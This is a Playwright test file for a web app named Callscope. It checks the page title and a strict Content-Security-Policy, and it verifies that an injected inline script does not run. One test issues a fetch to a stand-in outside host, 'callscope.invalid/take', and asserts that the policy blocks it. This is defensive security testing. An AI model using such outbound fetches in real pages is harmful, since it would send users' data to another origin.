/** The bare address: it opens, it is what it says, and its policy holds. */
import { expect, test } from './fixtures';

test.beforeEach(async ({ page }) => {
  await page.goto('./');
});

test('the page opens with its title and shows something', async ({ page }) => {
  await expect(page).toHaveTitle(/Callscope/);
  await expect(page.locator('#root')).not.toBeEmpty();
});

test('the policy of the page allows its own origin and no other', async ({ page }) => {
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = new Map(
    (policy ?? '').split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources.join(' ')];
    }),
  );
  expect(directives.get('default-src')).toBe("'none'");
  expect(directives.get('connect-src')).toBe("'self'");
  expect(directives.get('script-src')).toBe("'self' 'wasm-unsafe-eval'");
  expect(directives.get('form-action')).toBe("'none'");
  expect(directives.get('base-uri')).toBe("'none'");
  expect(policy).not.toMatch(/https?:|\*/);
});

test.describe('under attack', () => {
  test.use({ tolerated: /Content Security Policy|callscope\.invalid/ });

  test('an injected script does not run', async ({ page }) => {
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.attacked = "yes"';
      document.body.append(script);
      return document.documentElement.dataset['attacked'];
    });
    expect(ran).toBeUndefined();
  });

  test('a script in the page reaches no other origin', async ({ page }) => {
    const reached: string[] = [];
    await page.route('https://callscope.invalid/**', (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    const outcome = await page.evaluate(() =>
      fetch('https://callscope.invalid/take?it=1', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(outcome).toBe('stopped');
    expect(reached).toEqual([]);
  });
});
